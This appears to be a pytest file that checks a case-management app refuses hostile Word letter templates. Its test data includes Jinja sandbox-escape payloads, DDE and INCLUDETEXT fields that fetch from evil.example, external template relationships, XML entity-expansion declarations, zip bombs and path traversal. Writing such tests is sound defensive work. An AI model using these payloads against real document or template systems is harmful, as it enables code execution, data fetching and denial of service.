"""Templates that somebody sends: what is none is refused with a sentence, and nothing in one ever acts."""

import contextlib
import io
import zipfile
from typing import Any

import pytest
import structlog
from hypothesis import given, settings
from hypothesis import strategies as st

from cases.accounts.models import User
from cases.audit.acts import Act
from cases.models import LetterTemplate
from cases.operations.case_changes import Conflict
from cases.operations.letters import filling, templates, word_files
from cases.operations.letters.word_files import NotAccepted
from cases.queries.letters.kinds import KINDS, example
from tests.factories.acts import AT
from tests.factories.trail import said
from tests.factories.words import DOCUMENT, RELATIONS, TYPES, changed, rebuilt, word

KNOWN = example(KINDS["acknowledgement"])
GOOD = word("{{ greeting }}", "{{ own_words }}")
EXTERNAL = '<Relationship Id="rId99" Type="http://x/relationships/{kind}" Target="http://evil.example/x" {mode}/>'


def related(kind: str, mode: str = 'TargetMode="External"') -> bytes:
    return changed(GOOD, RELATIONS, "</Relationships>", EXTERNAL.format(kind=kind, mode=mode) + "</Relationships>")


def in_body(xml: str) -> bytes:
    return changed(GOOD, DOCUMENT, "<w:sectPr", f"{xml}<w:sectPr")


def field(*instructions: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{said}</w:instrText></w:r>" for said in instructions)
    return in_body(f"<w:p>{runs}</w:p>")


# --- What Jinja is never let do ---

ESCAPES = [
    "{{ ''.__class__ }}", "{{ greeting.__class__.__mro__ }}", "{{ greeting['__class__'] }}", "{{ greeting|upper }}",
    "{{ greeting|attr('__class__') }}", "{{ self }}", "{{ self._TemplateReference__context }}", "{{ cycler }}",
    "{{ lipsum.__globals__ }}", "{{ range(10**9) }}", "{{ namespace() }}", "{{ dict() }}", "{{ joiner() }}",
    "{% for x in greeting %}x{% endfor %}", "{% for x in range(99999999) %}{{ x }}{% endfor %}",
    "{% set x = greeting %}", "{% macro m() %}{% endmacro %}", "{% include 'x' %}", "{% import 'x' as y %}",
    "{% extends 'x' %}", "{% block b %}{% endblock %}", "{% raw %}{{ x }}{% endraw %}{{ 1 }}",
    "{% call x() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}", "{% autoescape false %}{{ greeting }}{% endautoescape %}", "{% do x %}",
    "{% with x = 1 %}{% endwith %}", "{{ 'x' * 999999999 }}", "{{ 9 ** 9 ** 9 }}", "{{ 1 }}", "{{ 'text' }}",
    "{{ [greeting] }}", "{{ {'a': greeting} }}", "{{ (greeting, greeting) }}", "{{ greeting ~ greeting }}",
    "{{ greeting == greeting }}", "{{ greeting if greeting else 'x' }}", "{{ greeting is defined }}",
    "{{ greeting() }}", "{{ greeting[0] }}", "{{ greeting[0:1] }}", "{{ -1 }}", "{{ loop }}", "{{ True }}",
    "{% if greeting.x %}{% endif %}", "{% if greeting() %}{% endif %}", "{% if greeting in own_words %}{% endif %}",
    "{% trans %}{% endtrans %}", "{% debug %}", "{%tr for x in greeting %}", "{%p set x = 1 %}", "{{p greeting.x }}",
]  # fmt: skip


@pytest.mark.parametrize("escape", ESCAPES)
@pytest.mark.parametrize("where", ["paragraph", "title"])
def test_an_expression_is_refused_before_it_is_reckoned(escape: str, where: str) -> None:
    data = word(escape) if where == "paragraph" else word(title=escape)
    with pytest.raises(NotAccepted):
        filling.fields_of(data, known=KNOWN)
    with pytest.raises(NotAccepted):
        filling.filled(data, values=KNOWN)


def test_an_expression_broken_over_runs_is_refused_too() -> None:
    broken = "<w:p><w:r><w:t>{{ ''.__cla</w:t></w:r><w:r><w:t>ss__ }}</w:t></w:r></w:p>"
    with pytest.raises(NotAccepted):
        filling.fields_of(in_body(broken), known=KNOWN)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        pytest.param("{{ adressee_name }}", "does not have|do not have: adressee_name", id="misspelt"),
        pytest.param("{{ officer_name }}", "do not have: officer_name", id="of-another-kind"),
        pytest.param("{{ greeting", "cannot be filled in|only the name", id="a-brace-too-few"),
        pytest.param("{% if greeting %}x", "cannot be filled in", id="an-if-without-end"),
        pytest.param("{% if officer_name %}x{% endif %}", "officer_name", id="misspelt-in-a-condition"),
        pytest.param("{% if greeting %}a{% elif nobody %}b{% endif %}", "nobody", id="where-it-is-not-reached"),
    ],
)
def test_what_does_not_render_is_refused_with_what_to_look_for(text: str, said: str) -> None:
    with pytest.raises(NotAccepted, match=said):
        filling.fields_of(word(text), known=KNOWN)


def test_fields_and_a_condition_on_one_are_all_that_there_is() -> None:
    data = word("{{ greeting }}", "{% if own_words and not reference %}a{% else %}{{ own_words }}{% endif %}")
    assert filling.fields_of(data, known=KNOWN) == ["greeting", "own_words", "reference"]
    made = filling.text_of(filling.filled(data, values=KNOWN | {"own_words": "We read it."}))
    assert made == "Dear Ada Example\n\nWe read it."


@settings(deadline=None, max_examples=25)
@given(text=st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=60))
def test_a_value_is_never_read_as_anything_but_text(text: str) -> None:
    for around in ("{}", "{{{{ {} }}}}", "{{% if x %}}{}", "<w:t>{}</w:t>", "]]>{}&amp;"):
        value = around.format(text)
        made = filling.filled(word("{{ own_words }}"), values=KNOWN | {"own_words": value})
        seen = filling.text_of(made)
        # docxtpl has one spelling of its own for braces.
        plain = filling.readable(value).replace("{_{", "{{").replace("}_}", "}}").replace("{_%", "{%")
        assert "".join(seen.split()) == "".join(plain.replace("%_}", "%}").split())


# --- What is no Word file, or more than one ---


def zip_of(parts: dict[str, bytes], **how: Any) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, **how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def lying() -> bytes:
    """An archive that says of a part that it is small, and is not."""
    data = bytearray(rebuilt(GOOD, {"word/media/x.png": b"\0" * 5_000_000}))
    for marker, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.rfind(marker)
        while place >= 0 and b"word/media/x.png" not in data[place : place + 80]:
            place = data.rfind(marker, 0, place)
        data[place + at : place + at + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
BAD = [
    pytest.param(b"", "no Word file", id="empty"),
    pytest.param(b"Dear {{ greeting }}", "no Word file", id="text"),
    pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "no Word file", id="old-doc"),
    pytest.param(zip_of({"a.txt": b"x"}), "no Word file", id="another-zip"),
    pytest.param(GOOD[: len(GOOD) // 2], "no Word file", id="cut-off"),
    pytest.param(b"x" * (word_files.MOST_BYTES + 1), "larger than a letter needs", id="too-large"),
    pytest.param(rebuilt(GOOD, {"word/vbaProject.bin": b"x"}), "macros", id="macros"),
    pytest.param(changed(GOOD, TYPES, "document.main+xml", "document.macroEnabled.main+xml"), "macros", id="docm"),
    pytest.param(
        changed(GOOD, TYPES, word_files.PLAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
        id="docm-renamed",
    ),
    pytest.param(rebuilt(GOOD, {"word/embeddings/x.docx": b"x"}), "embedded", id="embedded"),
    pytest.param(rebuilt(GOOD, {"word/activeX/x.xml": b"<x/>"}), "macros", id="active-x"),
    pytest.param(in_body('<w:altChunk r:id="rId1"/>'), "embedded", id="inserted-file"),
    pytest.param(related("attachedTemplate"), "follow by itself", id="template-from-elsewhere"),
    pytest.param(related("image"), "follow by itself", id="picture-from-elsewhere"),
    pytest.param(related("oleObject", ""), "embedded", id="ole"),
    pytest.param(related("vbaProject", ""), "macros", id="macros-by-relation"),
    pytest.param(field(" DDEAUTO c:\\\\x.exe "), "follow by itself", id="dde"),
    pytest.param(field(" INCLUDE", "PICTURE http://evil.example/x "), "follow by itself", id="include-in-two-runs"),
    pytest.param(
        in_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "/></w:p>'),
        "follow by itself",
        id="include-simple",
    ),
    pytest.param(changed(GOOD, DOCUMENT, "<w:document", DTD + "<w:document"), "declares XML", id="entities"),
    pytest.param(changed(GOOD, DOCUMENT, "<w:document", "<!DOCTYPE x><w:document"), "declares XML", id="doctype"),
    pytest.param(
        rebuilt(GOOD, {"word/x.xml": f"<?xml version='1.0' encoding='utf-16'?>{DTD}<x/>".encode("utf-16")}),
        "declares XML",
        id="entities-in-utf-16",
    ),
    pytest.param(rebuilt(GOOD, {"word/media/x.png": b"\0" * 20_000_000}), "unpacks to far more", id="bomb"),
    pytest.param(lying(), "unpacks to far more|damaged|no Word file", id="bomb-that-lies"),
    pytest.param(
        rebuilt(GOOD, {f"word/media/{n}.png": b"x" for n in range(400)}), "unpacks to far more", id="many-parts"
    ),
    pytest.param(rebuilt(GOOD, {"word/x.xml": b"<a>" * 200 + b"</a>" * 200}), "unpacks to far more", id="deep"),
    pytest.param(rebuilt(GOOD, {"word/../../x.xml": b"<x/>"}), "damaged", id="another-folder"),
    pytest.param(rebuilt(GOOD, {"word/x.xml": b"<x>"}), "damaged", id="broken-xml"),
    pytest.param(rebuilt(GOOD, {DOCUMENT: b"<x/>"}), "damaged", id="another-document"),
    pytest.param(rebuilt(GOOD, {}, leaving_out=DOCUMENT), "no Word file", id="no-document"),
]


@pytest.mark.parametrize(("data", "said"), BAD)
def test_a_file_that_is_no_plain_word_file_is_refused_with_a_sentence(data: bytes, said: str) -> None:
    with pytest.raises(NotAccepted, match=said):
        filling.fields_of(data, known=KNOWN)


def test_a_link_that_a_reader_clicks_is_let_through() -> None:
    assert filling.fields_of(related("hyperlink"), known=KNOWN) == ["greeting", "own_words"]
    assert filling.fields_of(field(" HYPERLINK http://force.example "), known=KNOWN)
    assert filling.fields_of(field(" PAGE "), known=KNOWN)


@settings(deadline=None, max_examples=60)
@given(cut=st.integers(min_value=0, max_value=len(GOOD) - 1), byte=st.integers(min_value=0, max_value=255))
def test_a_damaged_file_is_read_or_refused_and_breaks_nothing(cut: int, byte: int) -> None:
    data = bytearray(GOOD)
    data[cut] = byte
    with contextlib.suppress(NotAccepted):
        filling.fields_of(bytes(data), known=KNOWN)


# --- Versions ---


@pytest.mark.django_db
def test_a_version_is_added_once_and_the_old_one_stays(me: User) -> None:
    made = templates.upload(kind="acknowledgement", data=GOOD, said="Shorter", over=1, by=me, at=AT)
    again = templates.upload(kind="acknowledgement", data=GOOD, said="Shorter", over=1, by=me, at=AT)
    assert made == again
    assert list(LetterTemplate.objects.filter(kind="acknowledgement").values_list("version", flat=True)) == [1, 2]
    assert made.fields == ["greeting", "own_words"]
    assert said(Act.LETTER_TEMPLATE_ADDED) == [("done", me.principal, "letter_template:acknowledgement:2", "version 2")]


@pytest.mark.django_db
def test_of_two_who_change_it_at_once_the_second_is_told(me: User) -> None:
    templates.upload(kind="acknowledgement", data=GOOD, said="", over=1, by=me, at=AT)
    with pytest.raises(Conflict):
        templates.upload(kind="acknowledgement", data=word("{{ reference }}"), said="", over=1, by=me, at=AT)
    assert LetterTemplate.objects.filter(kind="acknowledgement").count() == 2


def test_an_error_of_ours_is_not_taken_for_a_damaged_file(monkeypatch: pytest.MonkeyPatch) -> None:
    """A template that was accepted is filled in, or what went wrong is seen as what it is."""

    def fails(document: object) -> None:
        raise RuntimeError("ours")

    monkeypatch.setattr(filling, "_nameless", fails)
    with pytest.raises(RuntimeError, match="ours"):
        filling.filled(GOOD, values=KNOWN)
    with pytest.raises(NotAccepted), structlog.testing.capture_logs() as said:
        filling.fields_of(GOOD, known=KNOWN)
    assert [(one["event"], one["kind"]) for one in said] == [("a template could not be read", "RuntimeError")]
